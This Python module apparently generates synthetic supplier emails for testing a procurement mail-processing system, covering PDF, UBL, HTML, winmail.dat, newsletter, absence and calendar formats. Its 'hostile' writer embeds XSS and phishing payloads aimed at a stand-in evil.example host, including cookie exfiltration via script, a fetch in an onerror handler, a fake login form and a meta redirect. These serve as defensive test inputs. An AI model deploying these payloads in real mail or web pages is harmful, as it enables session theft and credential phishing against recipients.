"""The kinds of mail: each writer makes the MIME tree its sender would have made."""

import random
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from html import escape

from zalion.demo import bodies, logo, paper, ubl
from zalion.demo.documents import Document
from zalion.demo.envelope import Part, attachment, multipart, text
from zalion.demo.paper import terms
from zalion.demo.script import Entry
from zalion.demo.suppliers import Company
from zalion.demo.tnef import winmail


@dataclass(frozen=True)
class Task:
    """What a writer works from; `document` is None for mail that is not about an order."""

    entry: Entry
    supplier: Company
    buyer: Company
    document: Document | None
    arrived: datetime
    chance: random.Random

    @property
    def paper(self) -> Document:
        assert self.document is not None, f"{self.entry.name} writes about an order"  # noqa: S101
        return self.document

    def boundary(self) -> str:
        """A boundary in the manner of the sender's mail program."""
        token = f"{self.chance.getrandbits(64):016X}"
        return {
            "outlook": f"_004_{token}{self.supplier.key}_",
            "erp": f"----=_Part_{self.chance.randrange(10**5)}_{token[:9]}",
            "apple": f"Apple-Mail=_{token[:8]}-{token[8:12]}-4{token[13:16]}",
            "thunderbird": f"------------{token}",
        }[self.entry.style.client]


def pdf(task: Task) -> Part:
    """A note with the paper attached."""
    style, document = task.entry.style, task.paper
    note = bodies.note(document)
    if style.again:
        note = note.replace(
            "\n\n", "\n\nleider haben wir noch keine Rückmeldung und senden Ihnen erneut:\n\n", 1
        )
    written = bodies.signed(note, task.supplier)
    if style.reply:
        written += f"\n{bodies.quoted_order(document)}\n"
    parts = [
        _note(task, written),
        attachment(
            _file_name(task, "pdf"), paper.draw(document), style.label, rfc2047=style.client == "outlook"
        ),
    ]
    if style.terms:
        parts.append(attachment("AGB.pdf", terms.draw(document), "application/pdf"))
    return multipart("mixed", parts, task.boundary())


def structured(task: Task) -> Part:
    """UBL attached, with or without the readable page beside it."""
    document = task.paper
    written = bodies.signed(bodies.note(document), task.supplier)
    name = f"{'Invoice' if document.kind == 'invoice' else 'OrderResponse'}_{document.number}"
    parts = [_note(task, written), attachment(f"{name}.xml", ubl.write(document), "application/xml")]
    if task.entry.style.pdf:
        parts.append(attachment(f"{name}.pdf", paper.draw(document), "application/pdf"))
    return multipart("mixed", parts, task.boundary())


def table(task: Task) -> Part:
    """The document as a table of the HTML body, with a plain alternative that only points to it."""
    document, style = task.paper, task.entry.style
    german = task.supplier.language == "de"
    hint = "Bitte aktivieren Sie die HTML-Ansicht." if german else "Please view this message in HTML."
    greeting = bodies.html(bodies.greeting(document.order, task.supplier))
    content = (
        f"{greeting}\n{bodies.confirmation_html(document)}\n{bodies.html(bodies.signature(task.supplier))}"
    )
    parts = [
        text(f"{hint}\n", charset=style.charset, encoding=style.encoding),
        text(bodies.page(content, style.charset), "html", charset=style.charset, encoding=style.encoding),
    ]
    return multipart("alternative", parts, task.boundary())


def plain(task: Task) -> Part:
    """The document as plain text, and nothing else."""
    document, style = task.paper, task.entry.style
    written = bodies.signed(bodies.confirmed(document), task.supplier)
    return text(written, charset=style.charset, encoding=style.encoding)


def hostile(task: Task) -> Part:
    """A valid confirmation in plain text beside HTML that tries what HTML can try."""
    document = task.paper
    written = bodies.signed(bodies.confirmed(document), task.supplier)
    head = '<meta http-equiv="refresh" content="3;url=https://login.evil.example/"><base href="https://evil.example/">'
    content = (
        "<script>document.location='https://evil.example/?c='+document.cookie</script>\n"
        f"{bodies.confirmation_html(document)}\n"
        '<img src="x" onerror="fetch(\'https://evil.example/\'+document.title)">\n'
        f'<img src="https://tracking.evil.example/pixel.gif?m={task.entry.name}" width="1" height="1">\n'
        '<svg onload="alert(1)"></svg><a href="javascript:alert(2)">Auftrag ansehen</a>\n'
        '<form action="https://evil.example/login"><input name="password" type="password"></form>\n'
        '<div style="position:fixed;inset:0;background:url(https://evil.example/bg.png)"></div>\n'
        '<iframe src="https://evil.example/frame"></iframe>\n'
    )
    return multipart(
        "alternative", [text(written), text(bodies.page(content, "utf-8", head), "html")], task.boundary()
    )


def broken(task: Task) -> Part:
    """The usual mail with paper, cut off before its closing boundary."""
    whole = bodies.signed(bodies.note(task.paper), task.supplier)
    parts = [text(whole), attachment(_file_name(task, "pdf"), paper.draw(task.paper), "application/pdf")]
    return multipart("mixed", parts, task.boundary(), closed=False)


def rich(task: Task) -> Part:
    """Outlook's winmail.dat, with the paper inside it."""
    document = task.paper
    note = bodies.signed(bodies.note(document), task.supplier)
    subject = f"AB {document.number}"
    data = winmail(subject, note, [(_file_name(task, "pdf"), paper.draw(document), "application/pdf")])
    return multipart(
        "mixed", [text(note), attachment("winmail.dat", data, "application/ms-tnef")], task.boundary()
    )


def absence(task: Task) -> Part:
    """Nobody is there."""
    back = task.arrived + timedelta(days=9)
    written = (
        "Guten Tag,\n\n"
        f"ich bin bis einschließlich {back:%d.%m.%Y} nicht im Büro. "
        "Ihre Nachricht wird nicht weitergeleitet.\n"
        f"In dringenden Fällen wenden Sie sich bitte an verkauf@{task.supplier.domain}.\n\n"
        f"{bodies.signature(task.supplier)}\n"
    )
    return text(written)


def newsletter(task: Task) -> Part:
    """Advertising, with prices that are nobody's order."""
    offers = (
        ("Leistungsschütz 25 A", "48,49"),
        ("Schaltnetzteil 24 V 10 A", "120,96"),
        ("Not-Aus-Taster", "26,92"),
    )
    rows = "".join(
        f"<tr><td>{escape(name)}</td><td align=right>nur {price} &euro;</td></tr>" for name, price in offers
    )
    content = (
        f"<h1>{escape(task.supplier.name)}: Herbstaktion</h1><p>Unsere Angebote bis Monatsende:</p>"
        f"<table>{rows}</table><p>"
        f"<a href='https://news.{task.supplier.domain}/abmelden'>Newsletter abbestellen</a></p>"
    )
    written = "Herbstaktion\n\n" + "\n".join(f"- {name}: nur {price} EUR" for name, price in offers) + "\n"
    return multipart(
        "alternative", [text(written), text(bodies.page(content, "utf-8"), "html")], task.boundary()
    )


def invitation(task: Task) -> Part:
    """A meeting request, as Outlook sends it."""
    start = (task.arrived + timedelta(days=8)).replace(hour=10, minute=0, second=0)
    lines = [
        "BEGIN:VCALENDAR",
        f"PRODID:-//{task.supplier.name}//Kalender//DE",
        "VERSION:2.0",
        "METHOD:REQUEST",
        "BEGIN:VEVENT",
        f"UID:{task.chance.getrandbits(96):024x}@{task.supplier.domain}",
        f"DTSTAMP:{task.arrived.astimezone(UTC):%Y%m%dT%H%M%SZ}",
        f"DTSTART;TZID=Europe/Berlin:{start:%Y%m%dT%H%M%S}",
        f"DTEND;TZID=Europe/Berlin:{start + timedelta(hours=2):%Y%m%dT%H%M%S}",
        f"SUMMARY:{task.entry.subject}",
        f"ORGANIZER;CN={task.supplier.person.name}:mailto:{task.supplier.person.email}",
        f"ATTENDEE;RSVP=TRUE:mailto:{task.buyer.order_mailbox}",
        f"LOCATION:{task.supplier.street}\\, {task.supplier.city}",
        "END:VEVENT",
        "END:VCALENDAR",
        "",
    ]
    calendar = text("\n".join(lines), "calendar", encoding="base64")
    headers = (("Content-Type", 'text/calendar; charset="utf-8"; method=REQUEST'), *calendar.headers[1:])
    written = bodies.signed("Wir laden Sie herzlich zur Modellabnahme ein.", task.supplier)
    return multipart("alternative", [text(written), Part(headers, calendar.body)], task.boundary())


def _note(task: Task, written: str) -> Part:
    style = task.entry.style
    body = text(written, charset=style.charset, encoding=style.encoding)
    if not (style.html or style.logo):
        return body
    content = bodies.html(written)
    if style.logo:
        content += f'\n<p><img src="cid:logo@{task.supplier.domain}" width="160" height="44" alt="Logo"></p>'
    marked = text(bodies.page(content, style.charset), "html", charset=style.charset)
    both = multipart("alternative", [body, marked], task.boundary())
    if not style.logo:
        return both
    picture = attachment(
        "image001.png", logo.png(task.supplier), "image/png", content_id=f"logo@{task.supplier.domain}"
    )
    return multipart("related", [both, picture], task.boundary())


def _file_name(task: Task, suffix: str) -> str:
    document = task.paper
    words = {
        "order_confirmation": "Auftragsbestätigung",
        "invoice": "Rechnung",
        "delivery_note": "Lieferschein",
    }
    if task.supplier.language != "de":
        words = {"order_confirmation": "Order_Acknowledgement", "invoice": "Invoice", "quote": "Quotation"}
    if task.entry.style.client == "erp":
        return f"{document.number}_{document.order.number}.{suffix.upper()}"
    return f"{words[document.kind]}_{document.number.replace('/', '-')}.{suffix}"


WRITERS: dict[str, Callable[[Task], Part]] = {
    "absence": absence,
    "broken": broken,
    "hostile": hostile,
    "html": table,
    "invitation": invitation,
    "newsletter": newsletter,
    "pdf": pdf,
    "text": plain,
    "ubl": structured,
    "winmail": rich,
}
